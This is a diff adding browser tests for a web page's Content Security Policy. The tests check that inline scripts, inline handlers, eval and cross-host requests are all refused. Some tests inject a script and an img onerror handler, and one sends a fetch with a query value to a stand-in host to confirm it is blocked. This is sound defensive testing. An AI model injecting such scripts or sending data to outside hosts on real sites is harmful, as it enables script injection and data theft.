@@ -1,0 +1,82 @@
+// The security policy of the released page.
+
+import { expect, openHome, test } from "./fixtures.mjs";
+
+test("the policy comes before everything that it is to hold for", async ({ page }) => {
+  await page.goto("./");
+  const html = await (await page.request.get("./")).text();
+  const policy = html.indexOf("Content-Security-Policy");
+  expect(policy).toBeGreaterThan(0);
+  for (const tag of ["<link", "<script", "<img", "<style"]) {
+    const first = html.indexOf(tag);
+    expect(first === -1 || first > policy, tag).toBe(true);
+  }
+});
+
+test("it names no other host, and nothing inline", async ({ page }) => {
+  await page.goto("./");
+  const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
+  const directives = Object.fromEntries(policy.split(";").map((part) => part.trim().split(/ (.*)/)));
+  expect(directives).toEqual({
+    "default-src": "'none'",
+    "script-src": "'self' 'wasm-unsafe-eval'",
+    "style-src": "'self'",
+    "img-src": "'self' data:",
+    "connect-src": "'self'",
+    "font-src": "'self'",
+    "manifest-src": "'self'",
+    "worker-src": "'self'",
+    "base-uri": "'none'",
+    "form-action": "'none'",
+  });
+});
+
+test("the page has no inline script, style or handler", async ({ page }) => {
+  await openHome(page);
+  expect(await page.locator("style, [style], script:not([src])").count()).toBe(0);
+  const handlers = await page.evaluate(() =>
+    [...document.querySelectorAll("*")].flatMap(({ attributes }) =>
+      [...attributes].map(({ name }) => name).filter((name) => name.startsWith("on")),
+    ),
+  );
+  expect(handlers).toEqual([]);
+});
+
+test.describe("what it forbids", () => {
+  test.use({ expected: /policy: |Content Security Policy/ });
+
+  test("a script that was slipped in does not run", async ({ page }) => {
+    await openHome(page);
+    await page.evaluate(() => {
+      const script = document.createElement("script");
+      script.textContent = "globalThis.slippedIn = true";
+      document.body.append(script);
+      document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='globalThis.slippedIn = true'>");
+    });
+    // In a task of its own: what the test itself evaluates is exempt.
+    const evaluated = () =>
+      new Promise((done) =>
+        setTimeout(() => {
+          try {
+            done(Function("return true")());
+          } catch (error) {
+            done(error.name);
+          }
+        }),
+      );
+    const refused = await page.evaluate(evaluated);
+    expect(refused).toBe("EvalError");
+    expect(await page.evaluate(() => globalThis.slippedIn)).toBeUndefined();
+  });
+
+  test("nothing can be sent to another host", async ({ page }) => {
+    await openHome(page);
+    const failed = await page.evaluate(() =>
+      fetch("https://elsewhere.example/?hand=Kc").then(
+        () => "sent",
+        (error) => error.name,
+      ),
+    );
+    expect(failed).toBe("TypeError");
+  });
+});
